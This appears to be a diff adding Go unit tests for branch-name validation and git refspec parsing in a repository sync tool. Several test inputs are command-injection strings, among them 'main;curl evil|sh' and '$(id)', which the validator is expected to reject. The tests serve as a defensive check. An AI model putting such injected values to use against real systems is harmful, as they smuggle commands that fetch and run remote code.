@@ -0,0 +1,78 @@
+package config_test
+
+import (
+	"testing"
+
+	"i2pgit.org/go-i2p/go-github-sync/pkg/config"
+)
+
+func TestValidateBranch(t *testing.T) {
+	tests := []struct {
+		branch string
+		valid  bool
+	}{
+		{"main", true},
+		{"release/1.2", true},
+		{"feature/a+b@c#d,e=f", true},
+		{"_wip", true},
+		{"fünf", true},
+		{"", false},
+		{"-main", false},
+		{".hidden", false},
+		{"main;curl evil|sh", false},
+		{"$(id)", false},
+		{"a b", false},
+		{"a'b", false},
+		{"a..b", false},
+		{"a//b", false},
+		{"a/.b", false},
+		{"main/", false},
+		{"main.", false},
+		{"main.lock", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.branch, func(t *testing.T) {
+			if err := config.ValidateBranch(tt.branch); (err == nil) != tt.valid {
+				t.Errorf("ValidateBranch(%q) = %v, want valid %v", tt.branch, err, tt.valid)
+			}
+		})
+	}
+}
+
+func TestParseRefspec(t *testing.T) {
+	tests := []struct {
+		spec    string
+		want    config.Refspec
+		wantErr bool
+	}{
+		{spec: "refs/tags/*", want: config.Refspec{Source: "refs/tags/*", Destination: "refs/tags/*"}},
+		{spec: "+refs/heads/*:refs/heads/upstream/*", want: config.Refspec{Source: "refs/heads/*", Destination: "refs/heads/upstream/*", Force: true}},
+		{spec: "refs/notes/commits:refs/notes/primary", want: config.Refspec{Source: "refs/notes/commits", Destination: "refs/notes/primary"}},
+		{spec: "", wantErr: true},
+		{spec: "main", wantErr: true},
+		{spec: "refs/heads/main:main", wantErr: true},
+		{spec: "refs/heads/*:refs/heads/main", wantErr: true},
+		{spec: "refs/*/*:refs/*/*", wantErr: true},
+		{spec: "refs/heads/a:refs/heads/b:refs/heads/c", wantErr: true},
+		{spec: "refs/heads/$(id)", wantErr: true},
+		{spec: "refs/heads/a;b", wantErr: true},
+		{spec: "refs/heads/a b", wantErr: true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.spec, func(t *testing.T) {
+			got, err := config.ParseRefspec(tt.spec)
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("ParseRefspec(%q) error = %v, want error %v", tt.spec, err, tt.wantErr)
+			}
+			if got != tt.want {
+				t.Errorf("ParseRefspec(%q) = %+v, want %+v", tt.spec, got, tt.want)
+			}
+			if err != nil {
+				return
+			}
+			if again, err := config.ParseRefspec(got.String()); err != nil || again != got {
+				t.Errorf("ParseRefspec(%q) = %+v, %v; want %+v", got.String(), again, err, got)
+			}
+		})
+	}
+}